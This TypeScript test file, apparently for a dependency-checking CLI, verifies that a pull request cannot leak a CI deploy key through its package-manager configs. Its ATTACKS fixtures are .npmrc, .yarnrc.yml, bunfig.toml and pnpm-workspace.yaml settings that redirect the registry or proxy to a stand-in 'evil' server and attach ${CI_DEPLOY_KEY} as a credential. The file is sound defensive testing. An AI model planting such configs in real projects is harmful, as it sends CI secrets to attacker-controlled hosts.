import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, afterEach, before, describe, test } from 'node:test';
import { lockfileOf, makeProject } from '../cli/run-cli.ts';
import { type Home, makeHome } from './support/home.ts';
import { type RecordedRegistry, startRecordedRegistry } from './support/recorded-registry.ts';
import { type Outside, startOutside } from './support/recorders.ts';
import { runCliBeside } from './support/run-async.ts';

const SECRET = 'value-of-the-deploy-key';
const VARIABLE = '$' + '{CI_DEPLOY_KEY}';
type Files = Readonly<Record<string, string | object>>;

/** `check --trust --base` on pull requests: the first commit is the base, the second the change under review. */
describe('what a change under review gets sent', () => {
  let known: RecordedRegistry;
  let evil: RecordedRegistry;
  let outside: Outside;
  let home: Home;

  before(async () => {
    [outside, known, evil] = [
      await startOutside(),
      await startRecordedRegistry(),
      await startRecordedRegistry(),
    ];
    home = makeHome({ npmrc: 'fund=false\n', env: { ...outside.env, CI_DEPLOY_KEY: SECRET } });
  });
  after(async () => {
    await Promise.all([known.close(), evil.close(), outside.close()]);
    rmSync(home.folder, { recursive: true });
  });
  afterEach(() => {
    for (const server of [known, evil, outside]) server.forget();
    rmSync(path.join(home.folder, 'cache'), { recursive: true, force: true });
  });

  const dependencies = { 'left-pad': '1.3.0', '@acme/ui': '1.0.0' };
  const manifest = { name: 'shop', private: true, dependencies };
  const keyOf = ({ url }: RecordedRegistry) => url.slice('http:'.length);
  const allSent = () => JSON.stringify([known.requests, evil.requests, outside.requests]);

  async function review(base: Files, change: Files, rest: { untracked?: Files; npmrc?: string } = {}) {
    const folder = makeProject({
      'package.json': manifest,
      'package-lock.json': lockfileOf(dependencies),
      ...base,
    });
    const git = (...args: readonly string[]) =>
      execFileSync('git', ['-c', 'user.name=A', '-c', 'user.email=a@example.test', ...args], {
        cwd: folder,
        stdio: 'ignore',
      });
    const write = (files: Files) => {
      for (const [name, content] of Object.entries(files)) {
        mkdirSync(path.dirname(path.join(folder, name)), { recursive: true });
        writeFileSync(
          path.join(folder, name),
          typeof content === 'string' ? content : JSON.stringify(content),
        );
      }
    };
    git('init', '--quiet');
    git('add', '--all');
    git('commit', '--quiet', '--message=base');
    git('tag', 'before');
    write(change);
    git('add', '--all');
    git('commit', '--quiet', '--allow-empty', '--message=change');
    write(rest.untracked ?? {});
    writeFileSync(path.join(home.folder, '.npmrc'), rest.npmrc ?? 'fund=false\n');
    const args = ['check', '--trust', '--base', 'before', '--format', 'json', folder];
    const { out, error } = await runCliBeside(args, { cwd: folder, env: home.env });
    assert.doesNotMatch(error, /internal error/);
    const report = JSON.parse(out) as { notChecked: readonly { reason: string }[] };
    return { reasons: new Set(report.notChecked.map(({ reason }) => reason)), folder };
  }

  const yarn = { ...manifest, packageManager: 'yarn@4.9.0' };
  const bun = { ...manifest, packageManager: 'bun@1.2.0' };
  const pnpm = { ...manifest, packageManager: 'pnpm@10.0.0' };
  const ATTACKS: readonly (readonly [string, Files, () => Files])[] = [
    [
      'a registry with _authToken in .npmrc',
      {},
      () => ({ '.npmrc': `registry=${evil.url}\n${keyOf(evil)}:_authToken=${VARIABLE}\n` }),
    ],
    [
      'a registry with _auth in .npmrc',
      {},
      () => ({ '.npmrc': `registry=${evil.url}\n${keyOf(evil)}:_auth=${VARIABLE}\n` }),
    ],
    [
      'a registry with _password in .npmrc',
      {},
      () => ({
        '.npmrc': `registry=${evil.url}\n${keyOf(evil)}:username=a\n${keyOf(evil)}:_password=${VARIABLE}\n`,
      }),
    ],
    [
      'a registry of one scope',
      {},
      () => ({ '.npmrc': `@acme:registry=${evil.url}\n${keyOf(evil)}:_authToken=${VARIABLE}\n` }),
    ],
    [
      'npmAuthToken in .yarnrc.yml',
      { 'package.json': yarn },
      () => ({
        '.yarnrc.yml': `npmRegistryServer: "${evil.url}"\nnpmAuthToken: "${VARIABLE}"\nnpmAlwaysAuth: true\n`,
      }),
    ],
    [
      'a token in bunfig.toml',
      { 'package.json': bun },
      () => ({ 'bunfig.toml': `[install]\nregistry={url="${evil.url}", token="$CI_DEPLOY_KEY"}\n` }),
    ],
    [
      'a registry in pnpm-workspace.yaml',
      { 'package.json': pnpm },
      () => ({
        'pnpm-workspace.yaml': `registries:\n  default: ${evil.url}\n`,
        '.npmrc': `${keyOf(evil)}:_authToken=${VARIABLE}\n`,
      }),
    ],
    [
      'a proxy in .npmrc',
      {},
      () => ({ '.npmrc': `registry=http://npm.acme.example.test/\nproxy=${evil.url}\n` }),
    ],
  ];
  for (const [what, base, change] of ATTACKS) {
    test(`${what} that is new gets neither a variable nor a name`, async () => {
      const { reasons } = await review(base, change());
      assert.deepEqual(evil.requests, []);
      assert.ok(!allSent().includes(SECRET));
      assert.ok(!allSent().includes('ui'), 'the scope of the new registry is asked for nowhere else');
      assert.ok(reasons.has('new-since-base'), JSON.stringify([...reasons]));
    });
  }

  test('a credential that is new for a registry of the base is not sent', async () => {
    const registry = { '.npmrc': `registry=${known.url}\n` };
    const change = { '.npmrc': `registry=${known.url}\n${keyOf(known)}:_authToken=${VARIABLE}\n` };
    const { reasons } = await review(registry, change);
    assert.ok(!allSent().includes(SECRET));
    assert.ok(reasons.has('new-since-base'));
  });

  test('another variable in place of the one of the base is not sent', async () => {
    const npmrc = (variable: string) => ({
      '.npmrc': `registry=${known.url}\n${keyOf(known)}:_authToken=${variable}\n`,
    });
    await review(npmrc('$' + '{HOME}'), npmrc(VARIABLE));
    assert.ok(!allSent().includes(SECRET));
  });

  test('a private registry that the change removes leaves the names with the public one unasked', async () => {
    const { reasons } = await review({ '.npmrc': `registry=${known.url}\n` }, { '.npmrc': 'fund=false\n' });
    assert.deepEqual([outside.requests.length, known.requests.length], [0, 0]);
    assert.ok(reasons.has('new-since-base'));
  });

  test('the registry and credential of the base are used, whatever else changes', async () => {
    const npmrc = `registry=${known.url}\n${keyOf(known)}:_authToken=${VARIABLE}\n`;
    const { reasons } = await review({ '.npmrc': npmrc }, { '.npmrc': `fund=false\n${npmrc}` });
    assert.ok(JSON.stringify(known.requests).includes(SECRET));
    assert.ok(!reasons.has('new-since-base'));
  });

  test('a registry that the user names is asked with what the user gives for it', async () => {
    const user = `${keyOf(known)}:_authToken=of-the-user\n`;
    const { reasons } = await review({}, { '.npmrc': `registry=${known.url}\n` }, { npmrc: user });
    assert.ok(JSON.stringify(known.requests).includes('of-the-user'));
    assert.ok(!reasons.has('new-since-base'));
  });

  test('a name that only the base declares private is not sent to an open registry', async () => {
    const npmrc = { '.npmrc': `registry=${known.url}\n` };
    const policy = { mirrors: [known.url], internalNames: ['left-pad'], privateScopes: ['@acme'] };
    const file = 'dependency-hygiene.json';
    const { folder } = await review({ ...npmrc, [file]: policy }, { [file]: { mirrors: [known.url] } });
    assert.deepEqual(known.requests, []);
    rmSync(path.join(folder, file));
    await runCliBeside(['check', '--trust', '--base', 'before', folder], { cwd: folder, env: home.env });
    assert.deepEqual(known.requests, []);
    await runCliBeside(['check', '--trust', folder], { cwd: folder, env: home.env });
    assert.ok(known.requests.length > 0, 'what the others would see');
  });

  test('an .npmrc that the job wrote and git does not track counts', async () => {
    const npmrc = `registry=${known.url}\n${keyOf(known)}:_authToken=${VARIABLE}\n`;
    const { reasons } = await review({}, {}, { untracked: { '.npmrc': npmrc } });
    assert.ok(JSON.stringify(known.requests).includes(SECRET));
    assert.ok(!reasons.has('new-since-base'));
  });
});
